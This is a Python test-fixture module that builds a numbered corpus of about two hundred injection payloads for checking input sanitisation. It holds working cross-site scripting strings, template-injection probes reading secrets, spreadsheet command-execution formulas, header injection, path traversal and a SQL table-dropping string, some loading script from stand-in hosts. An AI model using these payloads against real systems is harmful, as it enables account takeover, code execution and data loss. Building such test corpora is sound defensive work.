"""Two hundred things to write where words are asked for, each of which would like to be more than words.

Every one carries a name of its own (`xss_001` …), so that whatever of it runs, asks or becomes markup says which it was.
`§` stands for that name below.
"""

from __future__ import annotations

import re

TAGS = (
    "<script>§()</script>", "<ScRiPt>§()</sCrIpT>", "<script >§()</script >", "<script\n>§()</script\n>",
    "<script/x>§()</script>", "<script src=//§.example></script>", "<script src=data:,§()></script>",
    "<<script>§()//<</script>", "<scr<script>ipt>§()</scr</script>ipt>", "<b id=§>", "'\"><§>",
    "<iframe srcdoc='<script>parent.§()</script>'></iframe>", "<iframe src=javascript:parent.§()></iframe>",
    "<object data=javascript:§()></object>", "<embed src=javascript:§()>", "<base href=//§.example/>",
    "<link rel=stylesheet href=//§.example/>", "<meta http-equiv=refresh content='0;url=javascript:§()'>",
)  # fmt: skip
HANDLERS = (
    "<img src=x onerror=§()>", "<img/src=x/onerror=§()>", "<IMG SRC=x ONERROR=§()>", "<img src=x onerror\n=\n§()>",
    "<body onload=§()>", "<input autofocus onfocus=§()>", "<details open ontoggle=§()>x", "<video><source onerror=§()>",
    "<audio src=x onerror=§()>", "<marquee onstart=§()>x</marquee>", "<select autofocus onfocus=§()>",
    "<textarea autofocus onfocus=§()>", "<a onclick=§()>x", "<p tabindex=1 onfocus=§() autofocus>x",
    "<div onpointerenter=§()>x</div>", "<b onanimationstart=§()>x</b>", "<img src=x onerror=window['§']()>",
    "<img src=x onerror=`${§()}`>",
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover="§()', "' onmouseover='§()", '" autofocus onfocus="§()', "' autofocus onfocus='§()",
    '"><img src=x onerror=§()>', "'><img src=x onerror=§()>", "`><img src=x onerror=§()>", '" style="x:§" x="',
    '"><script>§()</script>', "'><script>§()</script>", '"/onfocus=§() x="', '\\" onfocus=\\"§()', "x onerror=§() y=",
    '" accesskey="x" onclick="§()" x="', '"formaction="javascript:§()', '" src=x onerror="§()',
)  # fmt: skip
ADDRESSES = (
    "javascript:§()", "JaVaScRiPt:§()", "javascript://%0a§()", " javascript:§()", "java\tscript:§()", "java\nscript:§()",
    "\x01javascript:§()", "data:text/html,<script>§()</script>", "data:text/html;base64,PHNjcmlwdD4=§",
    "vbscript:§()", "//§.example", "/\\§.example", "https:/§.example", "https://§.example/x.js", "///§.example/%2f..",
    "<a href=javascript:§()>x</a>", "<form action=javascript:§()><button>x</button></form>",
    "<a href='data:text/html,§'>x</a>",
)  # fmt: skip
DRAWN = (
    "<svg onload=§()>", "<svg/onload=§()>", "<svg><script>§()</script></svg>", "<svg><script href=data:,§()/></svg>",
    "<svg><a xlink:href=javascript:§()><text>x</text></a></svg>", "<svg><animate onbegin=§() attributeName=x>",
    "<svg><set attributeName=href to=javascript:§()>", "<svg><use href='data:image/svg+xml,<svg onload=§()>'/></svg>",
    "<svg><foreignObject><img src=x onerror=§()></foreignObject></svg>", "<svg><style>@import '//§.example'</style>",
    "<math><mtext><img src=x onerror=§()></mtext></math>", "<math href=javascript:§()>x</math>",
    "<math><maction actiontype='statusline#§'>x</maction></math>", "<svg><image href=//§.example/>",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}§", "{{ §() }}", "{% load §  %}", "{% include '§' %}", "{# § #}", "${§()}", "#{§()}", "<%= §() %>",
    "{{constructor.constructor('§()')()}}", "{{request.META}}§", "{{settings.SECRET_KEY}}§", "%(§)s", "%s§%n", "{§}",
    "{0.__class__}§", "[[§()]]", "*{§()}", "@{§()}", "~{§}", "{{'§'|safe}}",
)  # fmt: skip
FROM_THE_PAGE = (
    "<b hx-get=/§ hx-trigger=load>", "<b hx-on:load=§()>", "<b hx-on::after-settle=§()>", "<b hx-vals=js:{x:§()}>",
    '" hx-get="/§" hx-trigger="load" x="', '" hx-on:click="§()" x="', "<b data-hx-get=/§ data-hx-trigger=load>",
    "<b hx-ext=§>", "<b hx-swap-oob=true id=main>§</b>", "<div id=toasts hx-swap-oob=innerHTML>§</div>",
    "<b hx-disable=false hx-post=/§>", "<b hx-trigger='load[§()]' hx-get=/today/>", "<b hx-headers=js:{x:§()}>",
    "<form id=§><input name=attributes></form>", "<a id=htmx><a id=htmx name=config href=//§.example>",
    "<dialog open data-sheet-auto>§</dialog>",
)  # fmt: skip
MUTATING = (
    "<noscript><p title='</noscript><img src=x onerror=§()>'>", "<p id='</p><img src=x onerror=§()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=§()>", "<svg></p><style><a id='</style><img src=x onerror=§()>'>",
    "<template><img src=x onerror=§()></template>", "<title><img src=x onerror=§()></title>",
    "</title><img src=x onerror=§()>", "</textarea><img src=x onerror=§()>", "</select><img src=x onerror=§()>",
    "</style><img src=x onerror=§()>", "<!--><img src=x onerror=§()>-->", "--><img src=x onerror=§()>",
    "<![CDATA[<img src=x onerror=§()>]]>", "<listing>&lt;img src=x onerror=§()&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=§()>'>", "<table><td><img src=x onerror=§()></table>",
)  # fmt: skip
ENCODED = (
    "&lt;script&gt;§()&lt;/script&gt;", "&#60;img src=x onerror=§()&#62;", "&#x3c;img src=x onerror=§()&#x3e;",
    "&amp;lt;b&amp;gt;§", "%3Cimg src=x onerror=§()%3E", "%253Cscript%253E§()", "\\u003cimg src=x onerror=§()\\u003e",
    "\\x3cscript\\x3e§()\\x3c/script\\x3e", "+ADw-script+AD4-§()+ADw-/script+AD4-", "&#106;avascript:§()",
    "&quot; onfocus=&quot;§()", "&apos;><b>§", "&NewLine;javascript&colon;§()", "&lt;§", "&§;", "<img src=x onerror=&#120;§()>",
)  # fmt: skip
UNICODE = (
    "＜script＞§()＜/script＞", "﹤img src=x onerror=§()﹥", "‹b›§", "\u202e>()§<gmi", "\u2066§\u2069<b>", "§\u200b<b>x</b>",
    "\ufeff<img src=x onerror=§()>", "<\u200bimg src=x onerror=§()>", "<ſcript>§()</ſcript>", "<ımg src=x onerror=§()>",
    "ʺ onfocus=ʺ§()", "\u2028§()\u2029", "<img src=x\u00a0onerror=§()>", "가\u0301<b>§</b>", "👩‍⚕️<svg/onload=§()>",
    "\u0085<b>§</b>",
)  # fmt: skip
IN_SCRIPTS = (
    "</script><script>§()</script>", "</ScRiPt ><img src=x onerror=§()>", "';§();//", '";§();//', "\\';§();//",
    "`;§();`", "'-§()-'", '"-§()-"', "*/§()/*", "]]>§", '{"__proto__":{"x":"§"}}', "}};§();{{", "\\u0022;§();//",
    "<!--<script>§()", "</script\t><b>§", "\n§()\n",
)  # fmt: skip
STYLED = (
    "<style>@import '//§.example';</style>", "</style><script>§()</script>", "x:expression(§())",
    "background:url(javascript:§())", "<b style='background:url(//§.example)'>x", "<p style=position:fixed;inset:0>§",
    "}*{background:url(//§.example)}", "<link rel=import href=//§.example>", "[§](javascript:§())",
    "![§](x onerror=§())", "<javascript:§()>", "[x]: javascript:§()", "**§** <img src=x onerror=§()>", "```\n</code>§\n```",
)  # fmt: skip
FILES = (
    '=HYPERLINK("javascript:§()")', "=cmd|'/C §'!A0", "+§", "-2+3+cmd|' /C §'!A0", "@SUM(1)§", "\t=§", "\r=§",
    "x\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nDESCRIPTION:§", "x\nATTACH:javascript:§()", "x\\nURL:javascript:§()",
    "END:VEVENT\r\nBEGIN:VEVENT\r\nUID:§", ';ALTREP="javascript:§()":x', ")§ /S /JavaScript /JS (§())",
    "(§) Tj ET /URI (javascript:§())", "x\r\nSet-Cookie: §=1", "x\r\n\r\n<script>§()</script>",
    "x%0d%0aLocation: //§.example", 'x.html"; filename="§.html', "../../§", "§.svg", "'; DROP TABLE x;--§",
    '"},{"§":"', "x\u2028Content-Type: text/html§", "1<2 && 3>2 §",
)  # fmt: skip
CLASSES = {
    "tags": TAGS, "handlers": HANDLERS, "attributes": ATTRIBUTES, "addresses": ADDRESSES, "drawn": DRAWN,
    "templates": TEMPLATES, "from the page": FROM_THE_PAGE, "mutating": MUTATING, "encoded": ENCODED,
    "unicode": UNICODE, "in scripts": IN_SCRIPTS, "styled": STYLED, "files": FILES,
}  # fmt: skip
MARK = re.compile(r"xss_(\d{3})")
CORPUS = tuple(
    said.replace("§", f"xss_{number:03}")
    for number, said in enumerate((said for group in CLASSES.values() for said in group), start=1)
)
# What is left of a word where white space and signs that nobody sees do not count.
_UNSEEN = re.compile(r"[\s\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]+")


def bare(text: str) -> str:
    """A text without white space and what nobody sees."""
    return _UNSEEN.sub("", text)


BARE = {number: bare(said) for number, said in enumerate(CORPUS, start=1)}


def numbers(text: str) -> set[int]:
    """Which of them a text has something of."""
    return {int(found) for found in MARK.findall(text) if 0 < int(found) <= len(CORPUS)}


def fitting(length: int | None) -> tuple[str, ...]:
    """Those that are no longer than a field takes."""
    return CORPUS if length is None else tuple(said for said in CORPUS if len(said) <= length)
